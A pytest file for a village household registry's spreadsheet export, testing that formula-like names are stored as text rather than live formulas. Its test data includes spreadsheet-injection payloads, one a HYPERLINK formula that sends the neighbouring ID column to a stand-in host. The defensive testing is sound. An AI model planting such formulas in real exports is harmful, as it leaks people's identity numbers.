"""The registry export writes every name as text: no formula cell, whatever the name looks like
(issue #18: a member named =HYPERLINK(...) next to the full ID column)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command

import bangfu
from bangfu.lib import sheets
from bangfu.registry.importer import EXPORT_COLUMNS
from bangfu.registry.sample import VillageSpec, generate_rows
from bangfu.registry.services import import_registry

pytestmark = pytest.mark.django_db

NAMES = ['=HYPERLINK("http://x.invalid/?"&H2,"点此")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def _formula_cells(path) -> int:
    with zipfile.ZipFile(path) as archive:
        return sum(
            archive.read(name).count(b"<f>") + archive.read(name).count(b"<f ")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_export_registry_writes_formula_like_names_as_text(demo, tmp_path):
    rows = generate_rows([VillageSpec("格桑县", "雪岭镇", "然布村", "513325100202")], households=4, seed=3)
    for row, name in zip(rows, NAMES, strict=False):
        row["name"] = name
    # Written by hand: bangfu's own CSV writer would neutralise the names.
    buffer = io.StringIO()
    keys = [key for key, _label in EXPORT_COLUMNS]
    writer = csv.writer(buffer)
    writer.writerow([label for _key, label in EXPORT_COLUMNS])
    writer.writerows([row.get(key, "") for key in keys] for row in rows)
    summary = import_registry(
        actor=None, path="in.csv", data=buffer.getvalue().encode(), as_of=date(2020, 3, 1)
    )
    assert summary.rejected == 0
    out = tmp_path / "export.xlsx"
    call_command("export_registry", "-o", str(out))
    assert _formula_cells(out) == 0
    sheet = openpyxl.load_workbook(out).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if c.value in NAMES}
    assert set(cells) == set(NAMES)
    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())


def test_every_writer_keeps_tab_and_carriage_return_text_as_text(tmp_path):
    texts = ["\t=1+1", "\r=1+1", "=1+1", "+1", "-1", "@A1"]
    content = sheets.tables([("t", ["x"], [[t] for t in texts])])
    path = tmp_path / "t.xlsx"
    path.write_bytes(content)
    assert _formula_cells(path) == 0
    sheet = openpyxl.load_workbook(path).active
    assert [c.value.replace("_x000D_", "\r") for c in sheet["A"][1:]] == texts  # openpyxl keeps the escape
    assert all(c.data_type == "s" and c.quotePrefix for c in sheet["A"][1:])
    assert sheets.write_csv([["=1+1", "ok"]]).decode() == "'=1+1,ok\r\n"


def test_no_module_but_the_one_writer_makes_a_workbook():
    """ "Every xlsx written by bangfu" is every xlsx written by `lib.sheets.Workbook`: no other module
    opens xlsxwriter's or openpyxl's workbook (xlsxwriter.utility, for column letters, is fine)."""
    root = Path(bangfu.__file__).parent
    writer = re.compile(r"^\s*(import xlsxwriter\b|from xlsxwriter import|(from|import) openpyxl)", re.M)
    others = [
        str(path.relative_to(root))
        for path in sorted(root.rglob("*.py"))
        if path != root / "lib" / "sheets.py" and writer.search(path.read_text(encoding="utf-8"))
    ]
    assert others == []
